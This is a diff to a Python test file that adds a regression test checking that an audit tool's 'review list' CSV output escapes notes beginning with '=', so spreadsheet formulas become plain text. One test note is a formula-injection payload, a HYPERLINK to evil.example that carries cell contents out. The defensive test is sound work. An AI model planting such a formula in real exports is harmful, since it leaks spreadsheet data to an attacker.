@@ -4,6 +4,7 @@ set, the latest wins, a re-run keeps them, --status filters, an unknown finding 
 from __future__ import annotations
 
 import csv
+import io
 from pathlib import Path
 
 import pytest
@@ -70,3 +71,30 @@ def test_reviews_survive_a_rerun(tmp_path, store):
 
 def test_a_bad_status_is_refused(tmp_path, store, capsys):
     assert main(["review", "set", "--store", str(store), "R", "baccarat.b1", "--status", "fine"]) == 2
+
+
+def test_review_list_is_spreadsheet_safe_through_the_report_writer(store, capsys):
+    """issue 41, item 3: `review list` printed a note starting with = raw (every other CSV escapes it)."""
+    found = Store(store).findings(None, None, None)
+    (r1, k1), (r2, k2) = list(zip(found["round_id"], found["rule_id"], strict=True))[:2]
+    assert main(["review", "set", "--store", str(store), r1, k1, "--status", "explained",
+                 "--note", '=HYPERLINK("http://evil.example/?"&A1,"click")']) == 0
+    assert main(["review", "set", "--store", str(store), r2, k2, "--status", "confirmed", "--note", "-5.00"]) == 0
+    capsys.readouterr()
+    assert main(["review", "list", "--store", str(store)]) == 0
+    rows = {r["round_id"]: r for r in csv.DictReader(io.StringIO(capsys.readouterr().out, newline=""))}
+    assert rows[r1]["note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'  # text, never a formula
+    assert rows[r2]["note"] == "-5.00"  # a plain number stays a number
+    # the list read back by `review import` gives the note as written
+    got, problems = read_review_csv_text(capsys, store)
+    assert not problems and got[r1] == '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def read_review_csv_text(capsys, store):
+    from auditkit.reviews import read_review_csv
+
+    assert main(["review", "list", "--store", str(store)]) == 0
+    path = Path(store).parent / "listed.csv"
+    path.write_text(capsys.readouterr().out, "utf-8", newline="")
+    reviews, problems = read_review_csv(path)
+    return {r["round_id"]: r["note"] for r in reviews}, problems
